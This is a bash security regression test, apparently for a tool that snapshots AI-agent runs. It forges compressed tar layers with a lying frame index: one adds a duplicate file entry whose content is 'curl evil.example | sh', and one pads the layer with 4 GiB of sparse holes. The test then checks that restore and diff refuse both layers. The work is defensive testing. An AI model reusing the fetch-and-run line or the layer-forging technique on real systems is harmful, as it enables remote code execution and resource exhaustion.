#!/usr/bin/env bash
# framelies: a run directory handed to `nightshift` is hostile, and so is the frame index at the end
# of each of its layers (snapshot/frames.h), which a job's patch uses to decode only some frames.
# 1. An end layer rewritten as two frames: its own entries, then a second z/last ("EVIL") in a
#    frame the index names "zz". `diff --job` decoded the first frame only and showed "+one";
#    `restore` wrote EVIL, the tar's last entry. Now every whole read (restore, diff --step) holds
#    the entries to the index (in order, each once, each frame starting at its first path) and
#    refuses the layer (exit 4): what reads whole and what reads by frames cannot disagree.
# 2. 4 GiB of holes indexed as a frame after the first (4 KB on disk), named so that every entry a
#    patch decodes holds to the index: `diff --job` read through all of it to hash it, 1.5 s a
#    GiB, and then showed the patch. Now a layer with holes is decoded whole, refused at once.
source "$(dirname "$0")/lib.sh"
export ASAN_OPTIONS=detect_leaks=0
needuserns framelies
if ! command -v zstd >/dev/null || ! command -v python3 >/dev/null; then
	skip framelies "zstd and python3 are needed"; done_tests; exit
fi
mkdir -p "$T/ws/m" "$T/ws/z"
for i in $(seq 10 29); do head -c 300000 /dev/urandom >"$T/ws/m/$i"; done
echo base >"$T/ws/z/last"
cat >"$T/m.yaml" <<'YAML'
version: 1
workspace: ws
models:
  s: { provider: scripted, replies: [
    {tool_calls: [ {name: shell, arguments: {command: "echo one > z/last"}} ]},
    {tool_calls: [ {name: final_result, arguments: {}} ]} ] }
workers:
  w: { model: s, instructions: x, tools: [shell], approval: { default: allow } }
jobs:
  j: { worker: w }
YAML
dir=$("$NS" run "$T/m.yaml" --out "$T/runs" 2>"$T/err"); rc=$?
expect_rc "the night" 0 "$rc"; [ "$rc" = 0 ] || cat "$T/err"
check "the first layer has a frame index" sh -c "tail -c 4 '$dir/snapshots/0001.tar.zst' | grep -q nstr"
"$NS" diff "$dir" --job j >"$T/d0" 2>&1; rc=$?
expect_rc "diff --job of the run as written" 0 "$rc"
expect_grep "diff --job: the change" "^[+]one" "$T/d0"

# 1. A second z/last in a frame of its own.
r=$T/dup && cp -r "$dir" "$r"
python3 - "$r/snapshots/end.tar.zst" <<'PY'
import io, struct, subprocess, sys, tarfile
path = sys.argv[1]
src = subprocess.run(["zstd", "-dc", path], stdout=subprocess.PIPE, check=True).stdout
last = tarfile.open(fileobj=io.BytesIO(src)).getmembers()[-1]
end = last.offset_data + (last.size + 511) // 512 * 512
body = b"EVIL: curl evil.example | sh\n"
ti = tarfile.TarInfo("z/last"); ti.size = len(body); ti.mode = 0o644; ti.mtime = 1795929487
evil = ti.tobuf(format=tarfile.PAX_FORMAT) + body + b"\0" * (-len(body) % 512) + b"\0" * 1024
frames = [(src[:end], b""), (evil, b"zz")]
z = [subprocess.run(["zstd", "-qc"], input=d, stdout=subprocess.PIPE, check=True).stdout for d, _ in frames]
q = b"nsf1" + b"".join(struct.pack("<QH", len(c), len(n)) + n for c, (_, n) in zip(z, frames))
open(path, "wb").write(b"".join(z) + struct.pack("<II", 0x184D2A5B, len(q) + 8) + q + struct.pack("<I4s", len(q), b"nstr"))
PY
relist "$r" snapshots/end.tar.zst
expect_eq "the layer holds a second z/last (stock tar takes the last)" "EVIL: curl evil.example | sh" \
	"$(zstd -dc "$r/snapshots/end.tar.zst" | tar -xOf - z/last 2>/dev/null | tail -n1)"
"$NS" restore "$r" --step end --to "$T/o1" 2>"$T/e1"; rc=$?
expect_rc "restore: the layer is refused (exit 4)" 4 "$rc"
expect_grep "restore: it says why" "entry z/last after z/last: a layer's entries are in order, each once|starts frame 1, which its index says starts at zz" "$T/e1"
check "restore: no EVIL written" test ! -e "$T/o1/z/last"
"$NS" diff "$r" --step end >"$T/d1" 2>"$T/e1b"; rc=$?
expect_rc "diff --step end: the layer is refused (exit 4)" 4 "$rc"
expect_nogrep "diff --step end: no EVIL shown" "EVIL" "$T/d1"
"$NS" diff "$r" --job j >"$T/d1c" 2>&1; rc=$?
expect_nogrep "diff --job: what it shows holds no EVIL either" "EVIL" "$T/d1c"

# 2. 4 GiB of holes as a frame after the first.
check "the first layer has two frames or more" sh -c "[ \$(tail -c 12 '$dir/snapshots/0001.tar.zst' | head -c 4 | od -An -tu4) -gt 30 ]"
r=$T/hole && cp -r "$dir" "$r"
python3 - "$r/snapshots/0001.tar.zst" $((4 << 30)) <<'PY'
import struct, sys
path, hole = sys.argv[1], int(sys.argv[2])
b = open(path, "rb").read()
n, tag = struct.unpack("<I4s", b[-8:]); assert tag == b"nstr"
at = len(b) - 16 - n; p = b[at + 8:at + 8 + n]
idx = []; i = 4
while i < len(p):
    ln, k = struct.unpack("<QH", p[i:i + 10]); idx.append([ln, p[i + 10:i + 10 + k]]); i += 10 + k
first, rest = b[:idx[0][0]], b[idx[0][0]:at]
# named just before the next frame's first path, so every entry the patch decodes holds to it
nxt = idx[1][1]
idx.insert(1, [hole, nxt[:-1] + bytes([nxt[-1] - 1]) + b"\xff"])
q = b"nsf1" + b"".join(struct.pack("<QH", ln, len(nm)) + nm for ln, nm in idx)
with open(path, "wb") as o:
    o.write(first); o.seek(len(first) + hole); o.write(rest)
    o.write(struct.pack("<II", 0x184D2A5B, len(q) + 8) + q + struct.pack("<I4s", len(q), b"nstr"))
PY
relist "$r" snapshots/0001.tar.zst
t0=$(date +%s%N)
"$NS" diff "$r" --job j >/dev/null 2>"$T/e2"; rc=$?
ms=$(( ($(date +%s%N) - t0) / 1000000 ))
expect_rc "diff --job of a layer with 4 GiB of holes: refused (exit 4)" 4 "$rc"
expect_grep "diff --job: it says why" "index|corrupt" "$T/e2"
echo "note: refused in $ms ms (read through, it took about 6 s)"
"$NS" restore "$r" --step 1 --to "$T/o2" 2>"$T/e2b"; rc=$?
expect_rc "restore: the same layer is refused (exit 4)" 4 "$rc"
done_tests
